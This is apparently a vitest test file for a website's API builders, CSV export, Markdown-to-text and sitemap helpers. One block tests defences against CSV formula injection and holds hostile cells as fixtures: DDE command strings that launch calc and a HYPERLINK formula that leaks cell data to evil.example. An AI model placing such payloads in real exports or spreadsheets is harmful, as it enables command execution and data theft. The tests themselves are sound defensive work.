/**
 * Pure helpers behind the API, the CSV, the sitemap and full addresses: api item builders,
 * the evidence CSV (parsed back with csv-parse), plain text from Markdown, the sitemap filter.
 */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { EVIDENCE_CSV_COLUMNS, evidenceCsv, evidenceCsvRows } from '../../src/lib/api/evidence-csv';
import { eventApiItem, evidenceApiItem, faqApiItem, newsApiItem, ukInstant } from '../../src/lib/api/items';
import { eventItem, evidenceItem, faqItem, newsItem } from '../../src/lib/api/schemas';
import { markdownText } from '../../src/lib/plain-text';
import { absoluteUrl } from '../../src/lib/url';
import { inSitemap } from '../../src/integrations/sitemap-filter';
import type { EvidenceData } from '../../src/schema/evidence';
import type { EventData } from '../../src/schema/event';

const AWKWARD = 'Cost, "per person" £3.7m; it\'s <fine> & done\nsecond line 🎉';
const evidence: { id: string; data: EvidenceData } = {
  id: 'middlesbrough-2022-12-closure',
  data: {
    title: AWKWARD,
    kind: 'middlesbrough',
    date: new Date('2022-12-01'),
    cohort: '10 people, "still" in treatment',
    figures: [
      { value: '£3.7m', label: AWKWARD, key: true },
      { value: '99%', label: 'attendance', key: false },
    ],
    source: { name: 'Teesside University, "year one"', date: new Date('2021-12-01'), datePrecision: 'month', url: 'https://example.org/a,b' },
  },
};

describe('the evidence CSV', () => {
  const items = [evidenceApiItem(evidence)];
  const text = evidenceCsv(items);
  const rows: Record<string, string>[] = parse(text, { bom: true, columns: true });

  it('parses back to the same rows, one per figure, with commas, quotes, new lines and £ intact', () => {
    expect(rows).toEqual(evidenceCsvRows(items));
    expect(rows[0]).toMatchObject({ figure: AWKWARD, value: '£3.7m', key_figure: 'yes', set_title: AWKWARD, source_name: 'Teesside University, "year one"', source_url: 'https://example.org/a,b', date_label: '', caveat: '' });
    expect(rows[1]).toMatchObject({ figure: 'attendance', value: '99%', key_figure: 'no' });
  });

  it('has the documented header, a byte-order mark for Excel and CRLF line ends', () => {
    expect(text.startsWith(`\uFEFF${EVIDENCE_CSV_COLUMNS.join(',')}\r\n`)).toBe(true);
  });
});

describe('the evidence CSV opened in a spreadsheet', () => {
  // why: OWASP "CSV Injection": a cell starting with = + - @, a tab or a carriage return is run as a formula.
  const hostile = {
    ...evidence,
    data: {
      ...evidence.data,
      title: '@SUM(1+1)*cmd|\' /C calc\'!A0',
      cohort: '+1+2',
      caveat: '\t=1+1',
      dateLabel: '\r=2+2',
      figures: [
        { value: '-12', label: '=HYPERLINK("https://evil.example/?leak="&A1,"Click")', key: true },
        { value: '-40%', label: '-2+3', key: false },
        { value: '=1+1', label: 'A fall of -5 points', key: false },
      ],
      source: { ...evidence.data.source, name: '=cmd|\' /C calc\'!A0' },
    },
  };
  const rows: Record<string, string>[] = parse(evidenceCsv([evidenceApiItem(hostile)]), { bom: true, columns: true });

  it('puts a single quote before every cell a spreadsheet would run as a formula', () => {
    expect(rows[0]).toMatchObject({
      figure: '\'=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
      set_title: '\'@SUM(1+1)*cmd|\' /C calc\'!A0',
      cohort: '\'+1+2',
      caveat: '\'\t=1+1',
      date_label: '\'\r=2+2',
      source_name: '\'=cmd|\' /C calc\'!A0',
    });
    expect(rows[1]).toMatchObject({ figure: '\'-2+3' });
    expect(rows[2]).toMatchObject({ value: '\'=1+1', figure: 'A fall of -5 points' });
    const live = rows.flatMap((row) => Object.entries(row)).filter(([, cell]) => /^[=+\-@\t\r]/.test(cell) && !/^-\d+%?$/.test(cell));
    expect(live).toEqual([]);
  });

  it('keeps real negative numbers as numbers', () => {
    expect(rows.map((row) => row.value)).toEqual(['-12', '-40%', '\'=1+1']);
  });
});

describe('API item builders', () => {
  it('evidence: matches the published shape, with null for what is not given', () => {
    const item = evidenceApiItem(evidence);
    expect(evidenceItem.parse(item)).toEqual(item);
    expect(item).toMatchObject({ date: '2022-12-01', dateLabel: null, caveat: null, url: absoluteUrl('/evidence/#middlesbrough-2022-12-closure') });
  });

  it('news: dates as YYYY-MM-DD, area with its name, null when not about an area', () => {
    const names = new Map([['hartlepool', 'Hartlepool']]);
    const item = newsApiItem({ id: 'a', data: { title: AWKWARD, summary: 's', published: new Date('2022-12-06'), area: 'hartlepool' } }, names, { url: 'https://x/a.jpg', alt: '' });
    expect(newsItem.parse(item)).toEqual(item);
    expect(item).toMatchObject({ published: '2022-12-06', updated: null, area: { id: 'hartlepool', name: 'Hartlepool' }, title: AWKWARD });
    expect(newsApiItem({ id: 'b', data: { title: 't', summary: 's', published: new Date('2022-12-06') } }, names, null).area).toBeNull();
  });

  it('event: start and end in UK time with offset and seconds', () => {
    const data = { title: 't', summary: 's', start: new Date('2027-03-28T17:00:00Z'), end: new Date('2027-03-28T18:30:00Z'), venue: 'v', address: 'a', postcode: 'TS1 2QQ', area: 'hartlepool', accessibility: 'x', example: true, reviewed: new Date(), reviewDue: new Date(), draft: false } as EventData;
    const item = eventApiItem({ id: 'e', data }, new Map(), 'upcoming');
    expect(eventItem.parse(item)).toEqual(item);
    expect(item).toMatchObject({ start: '2027-03-28T18:00:00+01:00', end: '2027-03-28T19:30:00+01:00', bookingUrl: null, area: { id: 'hartlepool', name: 'hartlepool' } });
    expect(ukInstant(new Date('2027-02-10T18:00:05Z'))).toBe('2027-02-10T18:00:05+00:00');
  });

  it('faq: the answer is plain text without Markdown marks or footnotes', () => {
    const item = faqApiItem({ id: 'q', data: { question: 'Q?', group: 'g', order: 1, draft: false }, body: 'Yes, **it is**.[^1]\n\n- one\n- two\n\n[^1]: A source.' }, new Map([['g', 'Group']]));
    expect(faqItem.parse(item)).toEqual(item);
    expect(item.answer).toBe('Yes, it is.\n\none\n\ntwo');
    expect(item.group).toEqual({ id: 'g', title: 'Group' });
  });
});

describe('markdownText', () => {
  it('drops editor components and keeps links\' words', () => {
    expect(markdownText('See [the report](https://x/).\n\n<Callout text="Hi" />\n\nEnd.', 'mdx')).toBe('See the report.\n\nEnd.');
  });

  it('keeps awkward characters as typed', () => {
    expect(markdownText('Tom &amp; Jerry "quoted" 🎉', 'md')).toBe('Tom & Jerry "quoted" 🎉');
  });
});

describe('inSitemap', () => {
  it.each([
    ['https://example.gov.uk/hat/news/', '/hat/', true],
    ['https://example.gov.uk/hat/', '/hat/', true],
    ['https://example.gov.uk/hat/admin/', '/hat/', false],
    ['https://example.gov.uk/hat/embed/news/', '/hat/', false],
    ['https://example.gov.uk/hat/text-only/news/', '/hat/', false],
    ['https://example.gov.uk/hat/search/', '/hat/', false],
    ['https://example.gov.uk/hat/404/', '/hat/', false],
    ['https://hat.example.org/404.html', '/', false],
    ['https://hat.example.org/admin', '/', false],
    ['https://hat.example.org/administration/', '/', true],
  ])('%s under base %s: %s', (page, base, expected) => {
    expect(inSitemap(page, base)).toBe(expected);
  });
});

describe('absoluteUrl', () => {
  it('joins the site address, the base path and the page path', () => {
    expect(absoluteUrl('/news/', 'https://example.gov.uk')).toBe(`https://example.gov.uk${import.meta.env.BASE_URL.replace(/\/?$/, '/')}news/`);
  });

  it('keeps addresses that are already full', () => {
    expect(absoluteUrl('https://other.example/x', 'https://example.gov.uk')).toBe('https://other.example/x');
  });

  it('says what to do when the site address is not set', () => {
    expect(() => absoluteUrl('/news/', '')).toThrow(/set SITE_URL/);
  });
});
